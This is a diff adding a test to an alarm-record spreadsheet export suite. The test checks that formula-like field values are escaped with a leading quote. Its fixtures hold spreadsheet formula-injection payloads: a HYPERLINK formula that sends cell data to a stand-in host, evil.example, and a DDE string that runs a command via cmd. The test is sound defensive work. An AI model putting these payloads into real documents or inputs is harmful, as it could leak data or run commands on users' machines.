@@ -371,6 +371,26 @@ describe('AskAlarms export', () => {
     expect(west.getRow(2).getCell(8).value).toBe('Recovered');
   });
 
+  it('defuses text a spreadsheet would take for a formula; values stay as they are', async () => {
+    const d3 = (await buildDevice(server, token, { template_id: templateId })).id;
+    const link = '=HYPERLINK("https://evil.example/?"&A1,"open")';
+    await insertRecord({
+      device_id: d3,
+      rule_name: link,
+      tag_name: '@SUM(A1:A9)',
+      content: '+cmd|" /C calc"!A0',
+      value: '-5',
+      last_value: '-2+3',
+    });
+    const row = (await load(await exportXlsx({ device_id: d3, tz: 0 }))).getRow(2);
+    expect(row.getCell(3).value).toBe(`'${link}`);
+    expect(row.getCell(7).value).toBe("'@SUM(A1:A9)");
+    expect(row.getCell(9).value).toBe(`'+cmd|" /C calc"!A0`);
+    expect(row.getCell(10).value).toBe('-5');
+    expect(row.getCell(11).value).toBe("'-2+3");
+    expect(row.getCell(12).value).toBe(1);
+  });
+
   it('is limited to the scope, refuses bad input, and holds at most the newest 10,000 records', async () => {
     const plain = await createSubAccount(server, main, { permissions: [], deviceIds: [d2] });
     const scoped = await load(await exportXlsx({ tz: 0 }, plain.tokens.token));
